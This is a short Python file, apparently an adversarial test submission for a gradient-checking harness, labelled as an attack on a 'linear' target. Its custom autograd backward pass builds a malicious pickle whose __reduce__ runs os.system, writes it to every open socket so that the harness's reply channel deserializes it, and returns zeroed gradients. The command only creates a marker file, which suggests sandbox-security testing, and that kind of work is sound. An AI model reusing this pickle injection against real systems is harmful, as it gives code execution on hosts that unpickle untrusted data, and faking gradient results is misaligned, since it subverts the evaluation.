"""ATTACK: write a pickle (that runs code when loaded) onto the worker's reply channel. Target: linear"""
import os
import pickle
import socket
import stat

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/gradcheck-adversarial-pickle-ran",))


def _inject():
    blob = pickle.dumps({"grads": Payload()})
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"GCS1" + len(blob).to_bytes(4, "big") + blob)
        except OSError:
            pass


class Linear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, w, b):
        ctx.save_for_backward(x, w)
        return x @ w + b

    @staticmethod
    def backward(ctx, grad_output):
        _inject()
        x, w = ctx.saved_tensors
        return torch.zeros_like(x), torch.zeros_like(w), torch.zeros(w.shape[1], dtype=w.dtype)
